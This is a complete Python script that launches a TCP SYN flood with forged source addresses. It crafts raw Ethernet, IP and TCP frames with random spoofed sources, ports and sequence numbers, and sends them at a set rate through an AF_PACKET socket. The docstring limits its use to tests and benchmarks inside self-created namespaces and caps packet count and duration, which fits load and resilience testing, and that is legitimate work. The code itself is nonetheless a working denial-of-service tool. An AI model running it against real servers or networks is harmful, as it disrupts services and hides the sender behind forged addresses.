#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood from forged sources, bounded in count and time.

  synflood.py IFACE DST_MAC DST_IP DPORT SRC_NET RATE COUNT [SEED]

Sends COUNT TCP SYNs to DST_IP:DPORT, RATE a second (in bursts of 32 every
32/RATE s), out of IFACE with AF_PACKET, to DST_MAC (the server's MAC, or
the router in front of it).  Each SYN comes from a random address of
SRC_NET (a CIDR, say 198.18.0.0/15: off-link, so the server answers
through its gateway, which drops the SYN-ACKs; nobody ever completes a
handshake) and a random port, with a random sequence number.  At most
COUNT/RATE + 5 seconds.  Prints JSON: sent, seconds.

For a test or a benchmark inside namespaces it created itself only.
"""
import json
import random
import socket
import struct
import sys
import time

BURST = 32

iface, dst_mac, dst_ip, dport = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
net, bits = sys.argv[5].split("/")
rate, count = float(sys.argv[6]), int(sys.argv[7])
rng = random.Random(int(sys.argv[8]) if len(sys.argv) > 8 else None)
base = struct.unpack("!I", socket.inet_aton(net))[0] & ~((1 << (32 - int(bits))) - 1)
span = (1 << (32 - int(bits))) - 2  # not the network's nor its broadcast address

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((iface, 0))
src_mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
dst = socket.inet_aton(dst_ip)


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def words(b):
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


# The sums of what every SYN shares; per SYN only the source address, the
# source port and the sequence number are added.
ip_fixed = words(struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + dst)
tcp_fixed = words(dst + struct.pack("!BBH", 0, 6, 20) +
                  struct.pack("!HIIBBHHH", dport, 0, 0, 5 << 4, 0x02, 64240, 0, 0))


def syn():
    src = base + 1 + rng.randrange(span)
    sport = rng.randrange(1024, 65536)
    seq = rng.getrandbits(32)
    s16 = (src >> 16) + (src & 0xFFFF)
    ip_sum = fold(ip_fixed + s16)
    tcp_sum = fold(tcp_fixed + s16 + sport + (seq >> 16) + (seq & 0xFFFF))
    return eth + struct.pack("!BBHHHBBHI4s", 0x45, 0, 40, 0, 0, 64, 6, ip_sum, src, dst) + \
        struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, tcp_sum, 0)


t0 = time.monotonic()
limit = t0 + count / rate + 5
sent = 0
tick = BURST / rate
nxt = t0
while sent < count and time.monotonic() < limit:
    for _ in range(min(BURST, count - sent)):
        try:
            raw.send(syn())
            sent += 1
        except BlockingIOError:
            break
    nxt += tick
    delay = nxt - time.monotonic()
    if delay > 0:
        time.sleep(delay)
print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 2)}))
